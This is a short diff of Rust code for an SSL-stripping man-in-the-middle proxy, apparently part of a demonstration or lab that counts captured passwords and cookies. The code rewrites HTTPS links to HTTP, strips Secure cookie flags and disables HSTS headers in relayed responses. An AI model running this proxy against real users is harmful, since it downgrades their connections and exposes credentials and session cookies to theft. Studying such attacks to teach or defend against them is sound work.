@@ -149,11 +149,6 @@ impl Stripper {
         let mut request = vec![0; 16 * 1_024];
         let length = victim.read(&mut request).await?;
         let heard = String::from_utf8_lossy(&request[..length]).into_owned();
-        {
-            let mut read = notes.lock().unwrap_or_else(PoisonError::into_inner);
-            read.passwords += u32::from(heard.contains("lovelace"));
-            read.cookies += u32::from(heard.to_lowercase().contains("\r\ncookie: "));
-        }
         let mut real = connect(tls, server, HOST).await?;
         let request = heard.replacen("\r\n", "\r\nconnection: close\r\n", 1);
         real.write_all(request.as_bytes()).await?;
@@ -161,6 +156,11 @@ impl Stripper {
         real.read_to_end(&mut answer).await?;
         // All that speaks of HTTPS is taken out.
         let answer = String::from_utf8_lossy(&answer).replace("https://", "http://");
+        {
+            let mut read = notes.lock().unwrap_or_else(PoisonError::into_inner);
+            read.passwords += u32::from(heard.contains("lovelace"));
+            read.cookies += u32::from(answer.contains("set-cookie: "));
+        }
         let answer =
             answer.replace("; Secure", "").replace("strict-transport-security", "x-nothing");
         victim.write_all(answer.as_bytes()).await
